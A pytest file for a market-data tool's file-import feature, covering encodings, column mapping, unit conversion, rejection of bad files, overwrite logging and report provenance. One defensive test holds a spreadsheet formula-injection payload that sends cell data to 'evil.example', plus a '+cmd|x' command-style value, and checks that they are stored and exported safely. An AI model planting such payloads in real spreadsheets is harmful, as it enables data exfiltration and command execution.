"""Bring your own data (issue 17): ``fundflow import`` reads CSV (UTF-8, BOM, GBK), XLSX and
Parquet, maps and converts columns, refuses a bad file whole (naming file, line and column)
with the store unchanged, is idempotent, records overwrites, and the report shows imported
rows' provenance; a partial dataset builds the exhibits it can."""

from __future__ import annotations

import json
import re
import subprocess
from datetime import date, datetime, timezone
from pathlib import Path

import duckdb
import pandas as pd
import pytest

from fundflow.build import BuildRequest, build
from fundflow.config import load_config
from fundflow.data.importing import (
    ImportFileError, ImportSpec, RawTable, date_text, diff_rows, number_text, prepare,
)
from fundflow.data.store import Store
from fundflow.errors import ConfigError
from fundflow.importer import ImportRequest, run_import, summary_lines
from fundflow.render.csvsafe import safe_csv_frame
from tests.clirunner import run_cli

ROOT = Path(__file__).resolve().parents[1]
NOW = datetime(2025, 11, 8, 2, 0, tzinfo=timezone.utc)
LATER = datetime(2025, 11, 9, 2, 0, tzinfo=timezone.utc)
WEEK = date(2025, 11, 7)

# one index's daily closes, 2025-10-20 .. 2025-11-07 (three weeks), Wind-style headers
DAYS = pd.bdate_range("2025-10-20", "2025-11-07")
CLOSES = [4600.0 + 5 * i for i in range(len(DAYS))]
WIND_CSV = "日期,收盘价\n" + "".join(f"{d:%Y-%m-%d},{c:.2f}\n" for d, c in zip(DAYS, CLOSES))
HS300_MAP = {"日期": "trade_date", "收盘价": "close"}


def config(tmp: Path, sections: str = "[broad_indices, sw_industries]", extra: str = "") -> Path:
    p = tmp / "config.yaml"
    secs = "\n".join(f"  - section: {s.strip()}" for s in sections.strip("[]").split(","))
    p.write_text(f"""
data: {{store: {tmp}/store.duckdb, sample_dir: {ROOT}/seeds/sample, seeds_dir: {ROOT}/seeds}}
output: {{dir: {tmp}/reports, excel: false, pdf: false}}
sections:
{secs}
{extra}
""", encoding="utf-8")
    return p


def hs300(**kw: object) -> ImportRequest:
    args: dict[str, object] = dict(dataset="index_daily", mapping=HS300_MAP,
                                   set_values={"index_code": "000300"})
    args.update(kw)
    return ImportRequest(**args)  # type: ignore[arg-type]


def stored(tmp: Path, dataset: str = "index_daily") -> pd.DataFrame:
    with Store(tmp / "store.duckdb", read_only=True) as st:
        return st.read(dataset, with_provenance=True)


def import_log(tmp: Path) -> list[tuple[object, ...]]:
    con = duckdb.connect(str(tmp / "store.duckdb"), read_only=True)
    try:
        return con.execute("SELECT file, sha256, label, dataset, rows_new, rows_changed, "
                           "rows_unchanged, values_overwritten, overwritten FROM _imports "
                           "ORDER BY imported_at").fetchall()
    finally:
        con.close()


def cli(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return run_cli(*args, cwd=cwd, timeout=300)


# -- reading ------------------------------------------------------------------------------------
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk"])
def test_csv_in_utf8_bom_and_gbk(tmp_path: Path, encoding: str) -> None:
    f = tmp_path / "hs300.csv"
    f.write_bytes(WIND_CSV.encode(encoding))
    cfg = load_config(config(tmp_path))
    res = run_import(cfg, hs300(files=(f,)), now=NOW)
    assert res.files[0].prepared.raw.encoding == encoding
    got = stored(tmp_path)
    assert list(got["close"]) == CLOSES
    assert set(got["index_code"]) == {"000300"}
    assert got["trade_date"].iloc[0] == pd.Timestamp("2025-10-20")
    assert got["open"].isna().all() and got["amount_cny"].isna().all()


def test_xlsx_with_a_chosen_sheet(tmp_path: Path) -> None:
    import openpyxl

    wb = openpyxl.Workbook()
    cover = wb.active
    assert cover is not None
    cover.title = "说明"
    cover.append(["这是说明页"])
    ws = wb.create_sheet("行情")
    ws.append(["日期", "代码", "收盘价", "成交额(亿元)"])
    for d, c in zip(DAYS, CLOSES):
        ws.append([d.to_pydatetime(), "000300.SH", c, 3500.5])
    f = tmp_path / "wind.xlsx"
    wb.save(f)
    cfg = load_config(config(tmp_path))
    res = run_import(cfg, ImportRequest(
        files=(f,), dataset="index_daily", sheet="行情",
        mapping={"日期": "trade_date", "代码": "index_code", "收盘价": "close",
                 "成交额(亿元)": "amount_cny"}, units={"amount_cny": "亿元"}), now=NOW)
    assert res.files[0].prepared.raw.sheet == "行情"
    got = stored(tmp_path)
    assert set(got["index_code"]) == {"000300"}          # Wind's .SH suffix dropped
    assert got["amount_cny"].iloc[0] == pytest.approx(3500.5e8)
    with pytest.raises(ConfigError, match=r"no sheet '日线' \(sheets: 说明, 行情\)"):
        run_import(cfg, hs300(files=(f,), sheet="日线"), now=NOW)


def test_parquet(tmp_path: Path) -> None:
    f = tmp_path / "etf.parquet"
    frame = pd.DataFrame({"date": DAYS[:3], "code": ["510300"] * 3, "close": [4.1, 4.2, 4.3],
                          "shares_wan": [1000.0, 1010.0, 1020.0]})
    con = duckdb.connect()
    con.register("f", frame)
    con.execute(f"COPY f TO '{f}' (FORMAT parquet)")
    con.close()
    cfg = load_config(config(tmp_path))
    run_import(cfg, ImportRequest(files=(f,), dataset="etf_daily",
                                  mapping={"date": "trade_date", "code": "etf_code",
                                           "shares_wan": "shares"},
                                  units={"shares": "万份"}), now=NOW)
    got = stored(tmp_path, "etf_daily")
    assert list(got["shares"]) == [1000e4, 1010e4, 1020e4]
    assert list(got["etf_code"]) == ["510300"] * 3


# -- mapping, units -----------------------------------------------------------------------------
def test_layout_from_yaml(tmp_path: Path) -> None:
    (tmp_path / "w.csv").write_text("日期,收盘价,成交额\n" + "".join(
        f"{d:%Y/%m/%d},\"{c:,.2f}\",12.5\n" for d, c in zip(DAYS, CLOSES)), encoding="utf-8")
    cfg = load_config(config(tmp_path, extra="""
import:
  wind_hs300:
    dataset: index_daily
    map: {日期: trade_date, 收盘价: close, 成交额: amount_cny}
    set: {index_code: '000300'}
    unit: {amount_cny: 亿元}
    source_label: Wind
"""))
    res = run_import(cfg, ImportRequest(files=(tmp_path / "w.csv",), layout="wind_hs300"),
                     now=NOW)
    assert res.spec.source_label == "Wind"
    got = stored(tmp_path)
    assert list(got["close"]) == CLOSES                       # "4,600.00" read as 4600
    assert got["amount_cny"].iloc[0] == pytest.approx(12.5e8)
    assert import_log(tmp_path)[0][2] == "Wind"


def test_layout_is_checked_with_the_config(tmp_path: Path) -> None:
    bad = config(tmp_path, extra="""
import:
  wind_hs300:
    dataset: index_daily
    map: {日期: trade_date, 收盘价: closing}
""")
    with pytest.raises(ConfigError, match=r"import\.wind_hs300: .*'closing' is not a column "
                                          r"of index_daily"):
        load_config(bad)
    bad.write_text(bad.read_text(encoding="utf-8").replace(
        "收盘价: closing}", "收盘价: close}\n    unit: {close: 万元}"), encoding="utf-8")
    with pytest.raises(ConfigError, match="column close is stored in 点, not convertible"):
        load_config(bad)


def test_unit_conversion_and_cell_parsing() -> None:
    assert number_text("1,234.5", False) == 1234.5
    assert number_text("1,23", False) is None
    assert number_text("1.5%", True) == 1.5
    assert number_text("1.5%", False) is None
    assert date_text("2025年11月7日") == "2025-11-07"
    assert date_text(20251107) == "2025-11-07"
    assert date_text("11/07/2025") is None          # day/month order is never guessed
    raw = RawTable(Path("m.csv"), "0" * 64, "csv", "utf-8", None,
                   pd.DataFrame({"d": ["2025-11-07"], "bal": ["24,900.5"], "sb": ["120"],
                                 "fb": ["1,500,000"]}, dtype=object), ("line 2",))
    p = prepare(raw, ImportSpec("margin_market_daily",
                                {"d": "trade_date", "bal": "fin_balance_cny",
                                 "sb": "sec_balance_cny", "fb": "fin_buy_cny"},
                                units={"fin_balance_cny": "亿元",
                                       "sec_balance_cny": "亿元", "fin_buy_cny": "万元"}))
    row = p.frame.iloc[0]
    assert row["fin_balance_cny"] == pytest.approx(24900.5e8)
    assert row["fin_buy_cny"] == pytest.approx(1.5e10)          # 150 万万元 = 150 亿元
    assert "sec_sell_cny" not in p.present
    small = RawTable(Path("m.csv"), "0" * 64, "csv", "utf-8", None,
                     raw.frame.assign(bal="24900.5"), ("line 2",))
    with pytest.raises(ImportFileError, match=r"m\.csv, line 2, column bal \(fin_balance_cny\): "
                                              r"2\.49005e\+08 is below the plausible bound 1e\+11 "
                                              r"元 \(wrong --unit\?\)"):
        prepare(small, ImportSpec("margin_market_daily",
                                  {"d": "trade_date", "bal": "fin_balance_cny",
                                   "sb": "sec_balance_cny", "fb": "fin_buy_cny"},
                                  units={"fin_balance_cny": "万元"}))


# -- refusing bad files -------------------------------------------------------------------------
def test_bad_row_is_refused_whole_and_the_store_is_unchanged(tmp_path: Path) -> None:
    cfg_path = config(tmp_path)
    good = tmp_path / "good.csv"
    good.write_text(WIND_CSV, encoding="utf-8")
    run_import(load_config(cfg_path), hs300(files=(good,)), now=NOW)
    before = stored(tmp_path)
    bad = tmp_path / "bad.csv"
    lines = WIND_CSV.splitlines()
    lines[1] = lines[1].replace(lines[1].split(",")[1], "99999")   # would overwrite
    lines[5] = "2025-10-24,n.a."                                    # line 6 of the file
    bad.write_text("\n".join(lines) + "\n", encoding="utf-8")
    r = cli("import", "index_daily", str(bad), "--config", str(cfg_path),
            "--map", "日期=trade_date", "--map", "收盘价=close", "--set", "index_code=000300",
            cwd=tmp_path)
    assert r.returncode == 1, r.stderr
    assert r.stderr.strip().splitlines() == [
        "fundflow: error: bad.csv, line 6, column 收盘价 (close): 'n.a.' is not a number"]
    pd.testing.assert_frame_equal(stored(tmp_path), before)
    assert len(import_log(tmp_path)) == 1


def test_refusals_name_file_line_and_column(tmp_path: Path) -> None:
    cfg = load_config(config(tmp_path))
    cases = {
        "date": ("日期,收盘价\n2025-11-06,1\n07/11/2025,2\n",
                 r"d\.csv, line 3, column 日期 \(trade_date\): '07/11/2025' is not a date"),
        "range": ("日期,收盘价\n2025-11-06,1\n2025-11-07,-2\n",
                  r"d\.csv, line 3, column 收盘价 \(close\): -2 is below the plausible bound 1 点"),
        "duplicate": ("日期,收盘价\n2025-11-06,1\n\n2025-11-06,1\n",
                      r"d\.csv, line 4, column index_code, trade_date: duplicate key "
                      r"index_code=000300, trade_date=2025-11-06 \(first on line 2\)"),
        "empty": ("日期,收盘价\n2025-11-06,\n",
                  r"d\.csv, line 2, column 收盘价 \(close\): no value"),
        "unit mistake": ("日期,收盘价\n2025-11-06,46\n2025-11-07,460000\n",
                         r"d\.csv, line 3, column close: 2025-11-07 000300 is x1e\+04 the "
                         r"previous value; a unit mistake"),
    }
    f = tmp_path / "d.csv"
    for text, message in cases.values():
        f.write_text(text, encoding="utf-8")
        with pytest.raises(ImportFileError, match=message):
            run_import(cfg, hs300(files=(f,)), now=NOW)
    f.write_text("日期\n2025-11-06\n", encoding="utf-8")
    with pytest.raises(ImportFileError, match=r"needs column\(s\) close, which the file does "
                                              r"not have \(its columns: 日期\)"):
        run_import(cfg, hs300(files=(f,), mapping={"日期": "trade_date"}), now=NOW)
    assert not (tmp_path / "store.duckdb").exists() or stored(tmp_path).empty


def test_usage_errors_exit_2(tmp_path: Path) -> None:
    cfg_path = config(tmp_path)
    (tmp_path / "a.csv").write_text(WIND_CSV, encoding="utf-8")
    for args, message in (
        (["index_daily", "a.csv", "--map", "收盘价=closing"], "'closing' is not a column"),
        (["index_daily", "a.csv", "--map", "收盘价"], "--map '收盘价': expected NAME=VALUE"),
        (["index_dayly", "a.csv"], "unknown dataset 'index_dayly'"),
        (["index_daily", "missing.csv", "--map", "日期=trade_date"], "missing.csv: file not found"),
        (["--layout", "nope", "a.csv"], "--layout nope: no such entry under import:"),
    ):
        r = cli("import", *args, "--config", str(cfg_path), cwd=tmp_path)
        assert r.returncode == 2, (args, r.stderr)
        assert r.stderr.startswith("fundflow: error: ") and message in r.stderr, r.stderr
    assert not (tmp_path / "store.duckdb").exists()


# -- idempotence, overwrites, partial files -----------------------------------------------------
def test_reimport_changes_nothing(tmp_path: Path) -> None:
    f = tmp_path / "hs300.csv"
    f.write_text(WIND_CSV, encoding="utf-8")
    cfg = load_config(config(tmp_path))
    first = run_import(cfg, hs300(files=(f,)), now=NOW)
    assert (first.files[0].new, first.files[0].changed) == (len(DAYS), 0)
    before = stored(tmp_path)
    again = run_import(cfg, hs300(files=(f,)), now=LATER)
    o = again.files[0]
    assert (o.new, o.changed, o.unchanged, o.written) == (0, 0, len(DAYS), False)
    assert "nothing to change" in "\n".join(summary_lines(again))
    pd.testing.assert_frame_equal(stored(tmp_path), before)   # fetched_at too
    assert len(import_log(tmp_path)) == 1


def test_overwrite_is_counted_and_recorded(tmp_path: Path) -> None:
    f = tmp_path / "hs300.csv"
    f.write_text(WIND_CSV, encoding="utf-8")
    cfg = load_config(config(tmp_path))
    run_import(cfg, hs300(files=(f,)), now=NOW)
    g = tmp_path / "hs300_revised.csv"
    g.write_text(WIND_CSV.replace("2025-11-07,4670.00", "2025-11-07,4671.50")
                 + "2025-11-10,4680\n", encoding="utf-8")
    dry = run_import(cfg, hs300(files=(g,), dry_run=True), now=LATER)
    assert (dry.files[0].new, dry.files[0].changed) == (1, 1)
    assert len(import_log(tmp_path)) == 1                       # a dry run writes nothing
    res = run_import(cfg, hs300(files=(g,), source_label="Wind"), now=LATER)
    o = res.files[0]
    assert (o.new, o.changed, o.unchanged) == (1, 1, len(DAYS) - 1)
    text = "\n".join(summary_lines(res))
    assert "1 stored value(s) are overwritten (recorded in the store's import log):" in text
    assert "000300 2025-11-07 close: 4670.0 -> 4671.5" in text
    log = import_log(tmp_path)
    assert len(log) == 2
    file, sha, label, dataset, new, changed, unchanged, n_over, over = log[1]
    assert (file, label, dataset, new, changed, n_over) == ("hs300_revised.csv", "Wind",
                                                            "index_daily", 1, 1, 1)
    assert len(str(sha)) == 64
    assert json.loads(str(over)) == [{"key": {"index_code": "000300",
                                              "trade_date": "2025-11-07"},
                                      "column": "close", "old": 4670.0, "new": 4671.5}]
    got = stored(tmp_path).set_index("trade_date")
    assert got.at[pd.Timestamp("2025-11-07"), "source"] == f"import:{str(sha)[:16]}:" \
                                                           "hs300_revised.csv"
    assert got.at[pd.Timestamp("2025-11-06"), "source"].endswith(":hs300.csv")


def test_partial_file_keeps_stored_columns(tmp_path: Path) -> None:
    full = tmp_path / "full.csv"
    full.write_text("date,code,open,high,low,close,amount\n"
                    "2025-11-06,000300,4600,4620,4590,4610,4e11\n", encoding="utf-8")
    cfg = load_config(config(tmp_path))
    run_import(cfg, ImportRequest(files=(full,), dataset="index_daily",
                                  mapping={"date": "trade_date", "code": "index_code",
                                           "amount": "amount_cny"}), now=NOW)
    closes = tmp_path / "closes.csv"
    closes.write_text("日期,收盘价\n2025-11-06,4611\n", encoding="utf-8")
    res = run_import(cfg, hs300(files=(closes,)), now=LATER)
    assert res.files[0].overwritten == ({"key": {"index_code": "000300",
                                                 "trade_date": "2025-11-06"},
                                        "column": "close", "old": 4610.0, "new": 4611.0},)
    row = stored(tmp_path).iloc[0]
    assert (row["open"], row["close"], row["amount_cny"]) == (4600.0, 4611.0, 4e11)


def test_diff_is_pure_and_compares_only_present_columns() -> None:
    cols = ["trade_date", "index_code", "open", "high", "low", "close", "volume", "amount_cny"]
    old = pd.DataFrame([[pd.Timestamp("2025-11-06"), "000300", 1.0, 2.0, 0.5, 1.5, 9.0, 8.0]],
                       columns=cols)
    new = old.assign(open=None, close=1.5)
    d = diff_rows(new, old, "index_daily", ["trade_date", "index_code", "close"])
    assert (len(d.new), len(d.changed), d.unchanged) == (0, 0, 1)


# -- the report ---------------------------------------------------------------------------------
def test_partial_dataset_builds_its_exhibits_and_shows_provenance(tmp_path: Path) -> None:
    f = tmp_path / "hs300 <b>x<b>.csv"
    f.write_text(WIND_CSV, encoding="utf-8")
    cfg = load_config(config(tmp_path, "[broad_indices, style_seesaw]"))
    run_import(cfg, hs300(files=(f,), source_label="Wind"), now=NOW)
    res = build(cfg, BuildRequest(week=WEEK, source="store"), now=NOW)
    html = res.html.read_text(encoding="utf-8")
    manifest = json.loads((res.folder / "manifest.json").read_text(encoding="utf-8"))
    status = {s["id"]: s["status"] for s in manifest["sections"]}
    assert status == {"broad_indices": "ok", "style_seesaw": "unavailable"}
    keys = [e["key"] for e in manifest["exhibits"]]
    assert keys == ["broad_returns", "broad_table"]             # no turnover chart: no amounts
    assert "无成交额数据（amount_cny），日均成交额图表与列未展示" in html
    assert "52周高低点按已有数据计算：沪深300仅有自2025-10-20起约3周数据" in html
    # provenance: file name (escaped), label, sha256 and time
    src = "导入：hs300 &lt;b&gt;x&lt;b&gt;.csv（Wind）"
    assert html.count(f"数据来源：{src}，截至 2025-11-07") == 2
    assert "<b>x<b>" not in html
    entry = manifest["datasets"]["index_daily"]
    assert entry["source"] == "导入：hs300 <b>x<b>.csv（Wind）"
    (imp,) = entry["imports"]
    assert imp["file"] == "hs300 <b>x<b>.csv" and imp["label"] == "Wind"
    assert len(imp["sha256"]) == 64 and imp["imported_at"] == "2025-11-08T02:00:00Z"
    assert f"SHA-256 {imp['sha256']}" in html
    data = pd.read_csv(res.folder / "data" / "01_broad_indices_broad_returns.csv",
                       dtype={"index_code": str})
    assert data.loc[0, "return_pct"] == pytest.approx((4670 / 4645 - 1) * 100)


def test_formula_like_text_is_data(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    f = tmp_path / "universe.csv"
    f.write_text('code,name,sw,date\n600000,"' + evil.replace('"', '""') + '",801780,'
                 '2025-11-07\n600001,+cmd|x,801780,2025-11-07\n', encoding="utf-8")
    cfg = load_config(config(tmp_path))
    res = run_import(cfg, ImportRequest(files=(f,), dataset="stock_universe",
                                        mapping={"code": "stock_code", "name": "stock_name",
                                                 "sw": "sw_l1_code", "date": "snapshot_date"}),
                     now=NOW)
    assert any("start like a spreadsheet formula" in n for n in res.files[0].prepared.notes)
    names = list(stored(tmp_path, "stock_universe")["stock_name"])
    assert names == [evil, "+cmd|x"]                          # stored as text, verbatim
    out = safe_csv_frame(pd.DataFrame({"name": names, "chg": ["-1.5", "x"], "v": [-1.0, 2.0]}))
    assert list(out["name"]) == ["'" + evil, "'+cmd|x"]
    assert list(out["chg"]) == ["-1.5", "x"] and list(out["v"]) == [-1.0, 2.0]


def test_datasets_listing(tmp_path: Path) -> None:
    r = cli("datasets", cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    block = r.stdout.split("index_daily  ", 1)[1].split("\nsw_industry_daily", 1)[0]
    assert "required: trade_date, index_code, close" in block
    assert "optional: open, high, low, volume, amount_cny" in block
    assert re.search(r"amount_cny\s+float\s+元; >= 1e\+08, <= 1e\+13; optional", block), block
    assert "used by: broad_indices," in block


def test_done_when_two_column_file_into_an_empty_store_then_a_report(tmp_path: Path) -> None:
    """A Wind-style export of one index (日期,收盘价) imports with one command into an empty
    store, and `build --source store` shows that index's weekly return in broad_indices,
    labelled with the file, while the sections without data say so."""
    cfg = config(tmp_path, "[broad_indices, sw_industries, leverage]")
    (tmp_path / "000300.csv").write_text(WIND_CSV, encoding="utf-8-sig")
    r = cli("import", "index_daily", "000300.csv", "--config", str(cfg),
            "--map", "日期=trade_date", "--map", "收盘价=close", "--set", "index_code=000300",
            "--source-label", "Wind", cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    assert "rows: 15 new, 0 changed, 0 unchanged" in r.stdout
    r = cli("build", "--config", str(cfg), "--source", "store", "--week", "2025-11-07",
            cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    assert "section sw_industries is not in the report: dataset sw_industry_daily has no " \
           "rows in the store" in r.stderr
    folder = tmp_path / "reports" / "2025-11-07"
    html = (folder / "report.html").read_text(encoding="utf-8")
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    status = {s["id"]: s["status"] for s in manifest["sections"]}
    assert status == {"broad_indices": "ok", "sw_industries": "unavailable",
                      "leverage": "unavailable"}
    weekly = (4670 / 4645 - 1) * 100                      # 2025-11-07 vs 2025-10-31
    data = pd.read_csv(folder / "data" / "01_broad_indices_broad_returns.csv",
                       dtype={"index_code": str})
    assert list(data["index_code"]) == ["000300"]
    assert data.loc[0, "return_pct"] == pytest.approx(weekly)
    section = html.split('id="section-broad_indices"', 1)[1].split("</section>", 1)[0]
    assert f"+{weekly:.2f}%" in section
    assert section.count("数据来源：导入：000300.csv（Wind），截至 2025-11-07") == 2
    assert "数据不可用" in html.split('id="section-sw_industries"', 1)[1]
    assert manifest["datasets"]["index_daily"]["imports"][0]["file"] == "000300.csv"
